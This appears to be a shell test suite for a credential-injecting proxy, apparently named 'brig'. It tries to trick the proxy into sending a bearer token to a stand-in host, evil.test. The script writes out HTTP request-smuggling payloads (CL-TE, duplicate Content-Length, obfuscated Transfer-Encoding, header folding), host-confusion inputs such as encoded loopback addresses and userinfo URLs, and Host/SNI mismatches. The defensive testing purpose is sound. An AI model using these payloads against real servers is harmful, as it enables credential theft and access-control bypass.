#!/bin/sh
# Attacks on which host a request is for: names, parsers, connections.
# shellcheck disable=SC2016
# shellcheck source=lib.sh
. "$BRIG_SRCDIR/tests/attack/lib.sh"
attack_setup attack-host

G="https://good.test:$GOOD"
E="https://evil.test:$EVIL"
auth='-H "Authorization: Bearer $GOOD_TOKEN"'

# raw HOST PORT SNI NAME: send the bytes of $T/ws/NAME over TLS from the job.
raw() {
    job "timeout 15 openssl s_client -quiet -ign_eof -connect $1:$2 \
        -servername $3 </workspace/$4 2>/dev/null | head -c 4000"
}

# The same bytes to the origin directly, as the control.
raw_direct() {
    timeout 5 openssl s_client -quiet -connect "127.0.0.1:$1" -servername "$2" \
        <"$T/ws/$3" >"$T/outside.out" 2>/dev/null || :
}

direct_curl good.test "$GOOD" -H "Host: evil.test:$EVIL" "$G/a23-control"
check "23 control: an origin takes a foreign Host" \
    reached good.test "/a23-control"
job "curl -sS $auth -H 'Host: evil.test:$EVIL' $G/a23"
check "23 SNI of one host, Host of another: refused" job_says '"error"'
check "23 neither got it" not_reached good.test "/a23 "
check "23 nor the other" not_reached evil.test "/a23 "
job "curl -sS $auth -H 'Host: good.test:$GOOD' $E/a23b"
check "23 the other way round: refused" job_says '"error"'
check "23 and no credential went out" not_reached evil.test "/a23b"
check "23 recorded" audited HT401 a23b

job "curl -sS --connect-to good.test:$GOOD:evil.test:$EVIL -k $auth $G/a24
curl -sS --resolve good.test:$GOOD:93.184.216.34 -k $auth $G/a24-literal"
check "24 SNI of the good host at the address of another: refused" \
    job_says '"error"'
check "24 the other host got nothing" not_reached evil.test /a24
check "24 nor a credential through a literal address" \
    not_reached good.test /a24

# 27: names that look like the allowed one.
direct_curl evilgood.test "$EVIL" -k "https://evilgood.test:$EVIL/a27-control"
check "27 control: something listens behind the confusing names" \
    reached evil.test /a27-control
job "for h in evilgood.test good.test.evil.test xgood.test \
        2130706433 0x7f000001 0177.0.0.1 127.1 '[::ffff:127.0.0.1]' \
        '[::1]' 0.0.0.0; do
    curl -sS -m 10 -k $auth \"https://\$h:$EVIL/a27-\$h\"
done
curl -sS -m 10 -k $auth 'https://good.test:$GOOD@evil.test:$EVIL/a27-userinfo'
curl -sS -m 10 -k -g $auth 'https://[fe80::1%25lo]:$EVIL/a27-zone'"
check "27 no confusing name reaches the other host" \
    not_reached evil.test "/a27-g"
for h in evilgood.test good.test.evil.test 2130706433 127.1 0.0.0.0 userinfo; do
    check "27 $h: nothing arrives" not_reached evil.test "/a27-$h"
done
job "curl -sS $auth https://GOOD.test:$GOOD/a27-upper
curl -sS $auth https://good.test.:$GOOD/a27-dot"
check "27 upper case is the same host" sh -c \
    'grep a27-upper "$0" | grep -qF "$1"' "$T/good.test.rec" "$CANARY"
check "27 a trailing dot is the same host, or nothing" sh -c \
    '! grep a27-dot "$0" | grep -vF "$1" | grep -q Authorization' \
    "$T/good.test.rec" "$CANARY"

# 28: plain HTTP, absolute form and origin form.
job "python3 - <<'EOF'
import socket
def go(host, port, data):
    s = socket.create_connection((host, port), 10)
    s.sendall(data)
    s.settimeout(10)
    try:
        print(s.recv(2000).decode('latin1'))
    except OSError as e:
        print(e)
go('plain.test', $PLAIN, b'GET http://evil.test:$EVIL/a28-abs HTTP/1.1\r\nHost: plain.test:$PLAIN\r\n\r\n')
go('plain.test', $PLAIN, b'GET http://plain.test:$PLAIN/a28-host HTTP/1.1\r\nHost: evil.test:$EVIL\r\n\r\n')
go('plain.test', $PLAIN, b'GET /a28-origin HTTP/1.1\r\nHost: evil.test:$EVIL\r\n\r\n')
go('plain.test', $PLAIN, b'GET http://plain.test:$PLAIN/a28-control HTTP/1.1\r\nHost: plain.test:$PLAIN\r\n\r\n')
EOF"
check "28 control: absolute form for the same host is served" \
    reached plain.test a28-control
for w in abs host origin; do
    check "28 absolute or origin form for another host ($w): nothing arrives" \
        not_reached plain.test "a28-$w"
done

# 29: smuggling.  What two parsers could read differently is refused.
smuggle() {
    # shellcheck disable=SC2059
    printf "$2" "$GOOD" >"$T/ws/$1"
    raw good.test "$GOOD" good.test "$1"
    check "29 $1: refused" grep -qE "^HTTP/1.1 (400|501) " "$T/job.out"
    check "29 $1: nothing arrives" not_reached good.test "/a29-$1"
}
printf 'POST /a29-control HTTP/1.1\r\nHost: good.test:%s\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' \
    "$GOOD" >"$T/ws/control"
raw_direct "$GOOD" good.test control
check "29 control: the origin itself takes both lengths" \
    reached good.test /a29-control
p='POST /a29-'
h=' HTTP/1.1\r\nHost: good.test:%s\r\n'
smuggle cl-te "${p}cl-te${h}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
smuggle two-cl "${p}two-cl${h}Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcde"
smuggle same-cl "${p}same-cl${h}Content-Length: 4, 4\r\n\r\nabcd"
smuggle xchunked "${p}xchunked${h}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"
smuggle te-list "${p}te-list${h}Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"
smuggle te-tab "${p}te-tab${h}Transfer-Encoding:\tchunked\t\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"
smuggle bare-lf "${p}bare-lf${h}X: a\nContent-Length: 4\r\n\r\nabcd"
smuggle fold "${p}fold${h}X: a\r\n b\r\nContent-Length: 0\r\n\r\n"
smuggle space-colon "${p}space-colon${h}Content-Length : 4\r\n\r\nabcd"
smuggle nul "${p}nul${h}X: a\\000b\r\n\r\n"
smuggle plus-cl "${p}plus-cl${h}Content-Length: +4\r\n\r\nabcd"
smuggle two-host "${p}two-host${h}Host: evil.test\r\nContent-Length: 0\r\n\r\n"

# 31: each request on a kept connection is judged anew.
printf 'GET /a31-first HTTP/1.1\r\nHost: good.test:%s\r\n\r\nGET /a31-second HTTP/1.1\r\nHost: evil.test:%s\r\n\r\n' \
    "$GOOD" "$EVIL" >"$T/ws/a31"
raw good.test "$GOOD" good.test a31
check "31 control: the first request on the connection is served" \
    reached good.test /a31-first
check "31 the second one with another Host is refused" job_says '"error"'
check "31 and arrives nowhere" not_reached good.test /a31-second
check "31 nor at the other host" not_reached evil.test /a31-second
attack_end
